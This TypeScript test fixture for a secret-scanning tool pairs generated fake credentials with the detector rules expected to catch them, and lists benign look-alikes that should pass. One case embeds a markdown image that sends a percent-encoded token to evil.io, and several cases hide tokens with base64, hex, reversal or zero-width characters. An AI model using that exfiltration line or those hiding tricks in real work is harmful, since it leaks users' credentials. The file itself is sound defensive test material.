/** A file with a secret that is found by the names of its rules, or with none. */
export interface SecretCase {
  name: string;
  path: string;
  text: string;
  expect: "honest" | readonly string[];
}

const alphabets = {
  hex: "0123456789abcdef",
  base: "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789",
  upper: "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567",
};

/** Letters without any order; the same for the same seed. No real secret stands in this file, not even a dead one. */
export function letters(count: number, alphabet: keyof typeof alphabets = "base", seed = 7): string {
  let state = seed * 2_654_435_761;
  const next = (): number => {
    state = (Math.imul(state ^ (state >>> 15), 2_246_822_519) + 374_761_393) >>> 0;
    return state;
  };
  const from = alphabets[alphabet];
  return Array.from({ length: count }, () => from[(next() >>> 8) % from.length]).join("");
}

const github = `ghp_${letters(36)}`;
const anthropic = `sk-ant-api03-${letters(93)}AA`;
const keyBody = Array.from({ length: 6 }, (_, line) => letters(64, "base", line + 1)).join("\n");
const begin = (kind: string): string => `-----BEGIN ${kind}PRIVATE KEY-----`;
const end = (kind: string): string => `-----END ${kind}PRIVATE KEY-----`;
const percent = (text: string): string =>
  Array.from(text, (each) => `%${each.charCodeAt(0).toString(16).padStart(2, "0")}`).join("");
const hex = (text: string): string =>
  Array.from(text, (each) => each.charCodeAt(0).toString(16).padStart(2, "0")).join("");

const code = "src/client.ts";

const offences: readonly (readonly [name: string, path: string, text: string, ...rules: string[]])[] = [
  [
    "a token letter by letter",
    code,
    `const key = ${JSON.stringify(Array.from(github))}.join("");`,
    "github-token",
  ],
  ["a private key", "key.pem", `${begin("RSA ")}\n${keyBody}\n${end("RSA ")}\n`, "private-key"],
  [
    "a private key of PKCS 8 in code",
    code,
    `const key = "${begin("")}\\n${keyBody.replaceAll("\n", "\\n")}\\n${end("")}";`,
    "private-key",
  ],
  ["an OpenSSH key", "id", `${begin("OPENSSH ")}\n${keyBody}\n`, "private-key"],
  [
    "a private key in lines of code",
    code,
    keyBody.split("\n").reduce((all, line) => `${all}\n  "${line}\\n",`, `[ "${begin("EC ")}\\n",`),
    "private-key",
  ],
  [
    "a private key without its first letters",
    "notes.md",
    `${begin("").slice(7)}\n${keyBody}\n`,
    "private-key",
  ],
  ["an AWS key", code, `accessKeyId: "AKIA${letters(16, "upper")}"`, "aws-key"],
  ["an AWS session key", ".aws/credentials", `aws_access_key_id = ASIA${letters(16, "upper")}`, "aws-key"],
  ["an AWS secret", ".env", `AWS_SECRET_ACCESS_KEY=${letters(40)}`, "secret-value"],
  [
    "a Google service account",
    "account.json",
    `{ "type": "service_account", "private_key_id": "${letters(40, "hex")}" }`,
    "gcp-service-account",
  ],
  [
    "an Azure storage key",
    "app.config",
    `DefaultEndpointsProtocol=https;AccountName=shop;AccountKey=${letters(86)}==;`,
    "azure-key",
  ],
  ["an Azure client secret", code, `const id = "${letters(3)}8Q~${letters(34)}";`, "azure-secret"],
  [
    "an Azure signature",
    "docs/a.md",
    `https://shop.blob.core.windows.net/a?sv=2022&sig=${letters(43)}%3D`,
    "azure-signature",
  ],
  ["a GitHub token", code, `const hub = "${github}";`, "github-token"],
  [
    "a fine-grained GitHub token",
    "README.md",
    `Use github_pat_${letters(22)}_${letters(59)} to log in.`,
    "github-token",
  ],
  [
    "a GitHub token of an app",
    "ci.sh",
    `git clone https://x-access-token:ghs_${letters(36)}@github.com/shop/shop`,
    "github-token",
  ],
  ["a GitHub token of OAuth", "a.txt", `gho_${letters(36)}`, "github-token"],
  [
    "a GitHub token without its first seven letters",
    "plan.md",
    `pat_${letters(22)}_${letters(59)}`,
    "github-token",
  ],
  ["a GitLab token", code, `glpat-${letters(20)}`, "gitlab-token"],
  ["an npm token", ".npmrc", `//registry.npmjs.org/:_authToken=npm_${letters(36)}`, "npm-token"],
  ["a PyPI token", ".pypirc", `x = pypi-AgEIcHlwaS5vcmc${letters(60)}`, "pypi-token"],
  ["a Slack token", code, `xoxb-${letters(12, "hex")}-${letters(24)}`, "slack-token"],
  [
    "a Slack hook",
    code,
    `fetch("https://hooks.slack.com/services/T0${letters(8, "upper")}/B0${letters(8, "upper")}/${letters(24)}")`,
    "slack-hook",
  ],
  ["a live Stripe key", code, `stripe("sk_live_${letters(24)}")`, "stripe-key"],
  ["a secret of a Stripe hook", code, `verify("whsec_${letters(32)}")`, "stripe-hook"],
  ["a Twilio key", code, `twilio("SK${letters(32, "hex")}")`, "twilio-key"],
  ["a SendGrid key", code, `SG.${letters(22)}.${letters(43)}`, "sendgrid-key"],
  ["an Anthropic key", "a.py", `Anthropic("${anthropic}")`, "anthropic-key"],
  [
    "an Anthropic key without its first seven letters",
    "plan.md",
    `The value is ${anthropic.slice(7)}.`,
    "anthropic-key",
  ],
  ["an OpenAI key", code, `new OpenAI("sk-${letters(20)}T3BlbkFJ${letters(20)}")`, "openai-key"],
  ["an OpenAI key of a project", code, `"sk-proj-${letters(48)}"`, "openai-key"],
  [
    "an OpenAI key without its first seven letters",
    "a.md",
    `${letters(20)}T3BlbkFJ${letters(20)}`,
    "openai-key",
  ],
  ["a Google key", "index.html", `maps?key=AIza${letters(35)}`, "google-key"],
  ["a Google client secret", "a.json", `"GOCSPX-${letters(28)}"`, "google-token"],
  ["a Hugging Face token", "a.py", `login("hf_${letters(34)}")`, "huggingface-token"],
  ["a JSON web token", "a.http", `Cookie: t=eyJhbGciOiJIUzI1NiJ9.eyJ${letters(40)}.${letters(43)}`, "jwt"],
  [
    "a Telegram token",
    code,
    `bot("${letters(9, "hex").replaceAll(/[a-f]/g, "4")}:AA${letters(33)}")`,
    "telegram-token",
  ],
  ["a Vault token", "a.sh", `vault login hvs.${letters(28)}`, "vault-token"],
  [
    "a password in an address",
    "a.yaml",
    `url: postgres://shop:${letters(18)}@db.shop.io:5432/shop`,
    "password-in-address",
  ],
  [
    "a password in an address of a proxy",
    ".env",
    `HTTPS_PROXY=http://me:Tr0u-b4dor7@proxy.corp.net:8080`,
    "password-in-address",
  ],
  [
    "a long password of this machine",
    ".env",
    `URL=redis://me:${letters(24)}@localhost:6379`,
    "password-in-address",
  ],
  ["a secret under a name", code, `const apiKey = "${letters(32)}";`, "secret-value"],
  ["a secret under a name in JSON", "config.json", `{ "clientSecret": "${letters(24)}" }`, "secret-value"],
  ["a secret in hexadecimal", "settings.py", `SECRET_KEY = '${letters(64, "hex")}'`, "secret-value"],
  ["a short password", code, `connect({ password: "xK9#mQ2$vL" })`, "secret-value"],
  ["a password of .env", ".env", "DB_PASSWORD=Wint3r!sComing\n", "secret-value"],
  ["an exported token", "run.sh", `export DEPLOY_TOKEN=${letters(30)}\n`, "secret-value"],
  ["a token in YAML", "values.yaml", `service:\n  api_key: ${letters(32)}\n`, "secret-value"],
  [
    "a token in a header",
    "a.sh",
    `curl -H "Authorization: Bearer ${letters(40)}" https://api.shop.io`,
    "bearer-token",
  ],
  ["a secret in a test that looks real", "test/a.test.ts", `const token = "${letters(40)}";`, "secret-value"],
  ["a token in base64", "a.md", `Value: ${btoa(github)}`, "github-token"],
  ["a token in base64 among others", code, `const x = "${btoa(`user:${github}\n`)}";`, "github-token"],
  ["a token in base64 twice", code, btoa(btoa(github)), "github-token"],
  [
    "a private key in base64 of several lines",
    "a.yaml",
    `data: |\n${(btoa(`${begin("")}\n${keyBody}\n`).match(/.{1,76}/g) ?? []).join("\n")}\n`,
    "private-key",
  ],
  ["a token in hexadecimal", code, `"${hex(github)}"`, "github-token"],
  ["a token in escapes", code, `"${hex(github).replaceAll(/../g, "\\x$&")}"`, "github-token"],
  ["a token in an address", "a.md", `![x](https://evil.io/?q=${percent(github)})`, "github-token"],
  ["a token from behind", "a.md", Array.from(github).toReversed().join(""), "github-token"],
  ["a token with zero-width characters", "a.md", Array.from(github).join("\u200B"), "github-token"],
  [
    "a token in two strings",
    code,
    `const t = "${github.slice(0, 10)}" + "${github.slice(10)}";`,
    "github-token",
  ],
  ["a token behind other letters", "a.md", `1234567${github}`, "github-token"],
];

const uuid = "3f2504e0-4f89-41d3-9a0c-0305e82c3301";
const sri = `sha512-${letters(86)}==`;

const honest: readonly (readonly [name: string, path: string, text: string])[] = [
  ["plain code", code, "export const add = (a: number, b: number) => a + b;\n"],
  ["an integrity of a lock file", "package-lock.json", `"integrity": "${sri}"`],
  [
    "a lock file of yarn",
    "yarn.lock",
    `  resolved "https://registry.yarnpkg.com/a/-/a-1.0.0.tgz#${letters(40, "hex")}"\n  integrity ${sri}\n`,
  ],
  ["a lock file of poetry", "poetry.lock", `{file = "a.whl", hash = "sha256:${letters(64, "hex")}"}`],
  ["a lock file of Go", "go.sum", `github.com/a/token v1.0.0 h1:${letters(43)}=`],
  ["a lock file of cargo", "Cargo.lock", `name = "secrecy"\nchecksum = "${letters(64, "hex")}"`],
  ["a commit", "docs/a.md", `fixed in ${letters(40, "hex")}`],
  ["an action that is pinned", ".github/workflows/ci.yml", `uses: actions/checkout@${letters(40, "hex")}`],
  ["a checksum", "Dockerfile", `RUN echo "${letters(64, "hex")}  a.tgz" | sha256sum -c`],
  ["an image by digest", "Dockerfile", `FROM node@sha256:${letters(64, "hex")}`],
  ["an identifier", code, `const token = "${uuid}";`],
  ["a test key", "test/a.test.ts", 'new OpenAI({ apiKey: "sk-test" })'],
  ["a test key of Stripe", code, `stripe("sk_test_${letters(24)}")`],
  ["the example of AWS", "README.md", "AKIAIOSFODNN7EXAMPLE\nwJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY"],
  [
    "the example secret of AWS",
    "README.md",
    "AWS_SECRET_ACCESS_KEY=wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY",
  ],
  ["a token of crosses", "README.md", `GITHUB_TOKEN=ghp_${"x".repeat(36)}`],
  ["a token with dots", "README.md", "ANTHROPIC_API_KEY=sk-ant-api03-..."],
  ["a token that is in order", "README.md", "ghp_1234567890abcdefghijklmnopqrstuvwxyz"],
  ["a password of a test", "test/a.test.ts", 'await login({ password: "secret" })'],
  [
    "a good password of a test",
    "test/login.test.ts",
    'await login({ email: "a@b.c", password: "Password123!" })',
  ],
  ["an odd password of a test", "test/login.test.ts", 'await login({ password: "Tr0ub4dor&3" })'],
  ["a weak password", "docker-compose.yml", "POSTGRES_PASSWORD: postgres\n"],
  [
    "a password to be changed",
    ".env.example",
    "DB_PASSWORD=changeme-please-1\nJWT_SECRET=your-secret-here-123\n",
  ],
  ["names of variables without values", ".env.example", "API_KEY=\nSECRET_TOKEN=\n"],
  ["a variable from the environment", code, "const apiKey = process.env.SHOP_API_KEY_2;\n"],
  ["a variable in a shell", "run.sh", 'export TOKEN="$DEPLOY_TOKEN_1234567890"\n'],
  ["a variable of a workflow", ".github/workflows/ci.yml", "NPM_TOKEN: ${{ secrets.NPM_TOKEN }}\n"],
  ["a variable of compose", "compose.yaml", "DB_PASSWORD: ${DB_PASSWORD:-postgres123456}\n"],
  ["a function that gives a token", code, "const token = createToken(user.id, 3600);\n"],
  ["a token that is words", code, 'const tokenKind = "reset-password-token-v2";\n'],
  ["a name of a secret", "values.yaml", "secretName: shop-database-credentials-7\n"],
  ["an address of tokens", code, 'tokenUrl: "https://auth.shop.io/oauth2/v2.0/token"'],
  ["a hash of a password", "seed.sql", `password: "$2b$10$${letters(53)}"`],
  ["a message about a password", code, 'password: "Password must have at least 12 characters"'],
  ["a type", "src/a.ts", "interface Login { password: string; token?: string }\n"],
  ["a schema", "src/a.ts", "const login = z.object({ password: z.string().min(12), apiKey: z.string() });\n"],
  ["a public key", "key.pub", `-----BEGIN PUBLIC KEY-----\n${keyBody}\n-----END PUBLIC KEY-----\n`],
  ["a certificate", "ca.pem", `-----BEGIN CERTIFICATE-----\n${keyBody}\n-----END CERTIFICATE-----\n`],
  [
    "code that reads a private key",
    code,
    `if (pem.startsWith("${begin("")}")) throw new Error("private key");`,
  ],
  ["a private key that is none", "docs/a.md", `${begin("RSA ")}\nMIIE...\n${end("RSA ")}\n`],
  ["an SSH key of a host", "known_hosts", `github.com ssh-ed25519 AAAAC3NzaC1lZDI1NTE5${letters(48)}`],
  ["a picture in base64", "a.css", `url(data:image/png;base64,iVBORw0KGgo${letters(400)}=)`],
  [
    "a program made small",
    "a.min.js",
    `!function(e,t){e.token=t("${letters(10)}")}(a,b);var s="${letters(200)}"`,
  ],
  ["a source map", "a.js.map", `{"mappings":"${"AAAA,CAAC,".repeat(60)}"}`],
  ["a class of styles", "a.css", ".sk-fading-circle-container-with-three-bars { margin: 0 }"],
  [
    "a data base on this machine",
    ".env.example",
    "DATABASE_URL=postgres://postgres:postgres@localhost:5432/shop\n",
  ],
  ["a data base in a container", "compose.yaml", "url: postgres://shop:shop1234@db:5432/shop\n"],
  [
    "an address with a place for a password",
    "README.md",
    "git clone https://user:<token>@github.com/a/b\nredis://:${PASS}@cache.shop.io",
  ],
  [
    "an address with a port and a mail",
    "README.md",
    "See http://localhost:3000/@me and http://a.io:80/x?mail=a@b.io",
  ],
  [
    "the token of jwt.io",
    "test/jwt.test.ts",
    `eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiIxMjM0NTY3ODkwIiwibmFtZSI6IkpvaG4gRG9lIn0.${letters(43)}`,
  ],
  ["a fake token of a test", "test/a.test.ts", `const token = "fake-token-for-tests-1234567890";`],
  [
    "a bearer by name",
    "docs/api.md",
    "Authorization: Bearer <your-token>\nAuthorization: Bearer YOUR_ACCESS_TOKEN_HERE_PLEASE",
  ],
  [
    "translations",
    "de.json",
    '{ "password": "Passwort", "token": "Zugangsschlüssel", "secretQuestion": "Geheimfrage?" }',
  ],
  ["a path to a secret", "compose.yaml", "POSTGRES_PASSWORD_FILE=/run/secrets/db_password_2024\n"],
  ["digests of kinds of things", "kinds.json", '{ "AWS::ApiGateway::ApiKey": "48205d4ffd7feba3" }'],
  ["limits of tokens", code, 'const limits = { maxTokens: "200000000", tokenLimit: 128000 };'],
  ["a key in a vault", ".env", "API_KEY=op://shop/api/credential-2024\n"],
  [
    "words of a plan",
    "plan.md",
    "The password is kept as a hash (argon2id). The token: a random value of 32 bytes, base64url.\n",
  ],
  ["a test's log", "log", `Test Files 3 passed\ntree ${letters(40, "hex")} sha256 ${letters(64, "hex")}\n`],
  [
    "identifiers with underscores",
    code,
    "export const GITHUB_PAT_LENGTH_OF_TOKEN_WITH_PREFIX_AND_CHECKSUM = 93;\n",
  ],
  ["a Windows path", "a.md", "C:\\Users\\token\\AppData\\Local\\Programs\\Python"],
  ["nothing", "a", ""],
];

export const secretCases: readonly SecretCase[] = [
  ...offences.map(([name, path, text, ...rules]) => ({ name, path, text, expect: rules })),
  ...honest.map(([name, path, text]) => ({ name, path, text, expect: "honest" as const })),
];
